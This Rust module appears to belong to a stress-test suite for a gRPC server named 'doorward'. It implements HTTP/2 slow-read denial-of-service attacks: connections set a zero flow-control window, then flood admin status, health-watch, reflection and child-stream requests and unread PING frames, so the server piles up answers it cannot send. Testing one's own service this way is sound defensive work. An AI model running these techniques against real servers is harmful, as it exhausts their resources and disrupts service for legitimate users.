//! Attacks by never reading: the server gets many requests, and keeps answers that it cannot send.
//!
//! The window of every stream is 0, so that HTTP/2 itself keeps the server from sending answers. Other frames are read,
//! because they allow more requests; [`pings`] do not read even those.

use std::io;
use std::time::Duration;

use futures_util::future::join_all;
use prost::Message;
use tokio::time::timeout;

use super::claims::child_request;
use super::connection::Connection;
use super::frames::{DATA, END_STREAM, INITIAL_WINDOW_SIZE, PING, begin_call, frame, message};
use super::waiting::STREAM;
use super::{Siege, Target};

/// Path of the call for operators, with the largest answer.
pub const GET_STATUS: &str = "/doorward.admin.v1.Admin/GetStatus";
/// Path of the call that streams changes of health.
pub const WATCH: &str = "/grpc.health.v1.Health/Watch";
/// Path of the call that lists the services.
pub const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";

const NO_WINDOW: &[(u16, u32)] = &[(INITIAL_WINDOW_SIZE, 0)];

/// Time for which the attack continues after the server accepts nothing more.
const PRESSED: Duration = Duration::from_millis(500);

/// Sends requests on streams of a connection each, and reads no answer.
async fn ask(
    target: Target,
    path: &str,
    connections: usize,
    streams: usize,
    messages: &[Vec<u8>],
    ends: bool,
) -> Siege {
    // All at the same time, because the attack waits for a connection that the server no longer reads.
    let asking = (0..connections).map(|_| async {
        let mut connection = Connection::greet(target.from, target.grpc, NO_WINDOW).await?;
        let mut done = 0;
        for _ in 0..streams {
            let asked = ask_on(&mut connection, path, messages, ends, &mut done).await;
            if asked.is_err() {
                break;
            }
        }
        Ok((connection, done))
    });
    let mut siege = Siege::default();
    for asked in join_all(asking).await {
        siege.outcome.done += asked.as_ref().map_or(0, |(_, done)| *done);
        siege.take(asked.map(|(connection, _)| connection));
    }
    siege
}

async fn ask_on(
    connection: &mut Connection,
    path: &str,
    messages: &[Vec<u8>],
    ends: bool,
    done: &mut u64,
) -> io::Result<()> {
    let stream = connection.next_stream();
    connection.look_at(stream);
    let mut out = Vec::new();
    begin_call(&mut out, stream, path);
    connection.send(&out).await?;
    for body in messages {
        timeout(PRESSED, connection.send_data(stream, body, false)).await??;
        *done += 1;
    }
    if ends {
        out.clear();
        frame(&mut out, DATA, END_STREAM, stream, &[]);
        connection.send(&out).await?;
    }
    Ok(())
}

/// Opens child servers that ask for ten resources again and again, and reads no answer.
pub async fn child_streams(target: Target, streams: usize, messages: usize) -> Siege {
    let body = message(&child_request("unread", "unread", 10));
    let messages = vec![body; messages];
    ask(target, STREAM, streams, 1, &messages, false).await
}

/// Asks for the whole status, a number of times on every connection, and reads no answer.
pub async fn statuses(target: Target, connections: usize, streams: usize) -> Siege {
    let request = doorward_proto::admin::v1::GetStatusRequest {
        leases_max: u32::MAX,
        ..Default::default()
    };
    let messages = [message(&request)];
    ask(target, GET_STATUS, connections, streams, &messages, true).await
}

/// Asks the health service to stream every change.
pub async fn health_watches(target: Target, connections: usize, streams: usize) -> Siege {
    // The empty message stands for the whole server.
    let messages = [message(&())];
    ask(target, WATCH, connections, streams, &messages, true).await
}

/// Asks the reflection service for everything, again and again on one stream.
pub async fn reflections(target: Target, connections: usize, streams: usize) -> Siege {
    /// Form of `ServerReflectionRequest` with `file_containing_symbol`.
    #[derive(Clone, PartialEq, Message)]
    struct Request {
        #[prost(string, tag = "4")]
        file_containing_symbol: String,
    }
    let request = Request {
        file_containing_symbol: "doorman.Capacity".to_owned(),
    };
    let messages = vec![message(&request); 100];
    ask(target, REFLECTION, connections, streams, &messages, false).await
}

/// Sends pings whose answers are not read.
pub async fn pings(target: Target, connections: usize, each: usize) -> Siege {
    let mut siege = Siege::default();
    let mut batch = Vec::new();
    for _ in 0..100 {
        frame(&mut batch, PING, 0, 0, &[7; 8]);
    }
    for _ in 0..connections {
        let connection = Connection::greet(target.from, target.grpc, NO_WINDOW).await;
        let Some(connection) = siege.take(connection) else {
            continue;
        };
        let mut done = 0;
        for _ in 0..each.div_ceil(100) {
            if connection.send_unread(&batch, PRESSED).await.is_err() {
                break;
            }
            done += 100;
        }
        siege.outcome.done += done;
    }
    siege
}
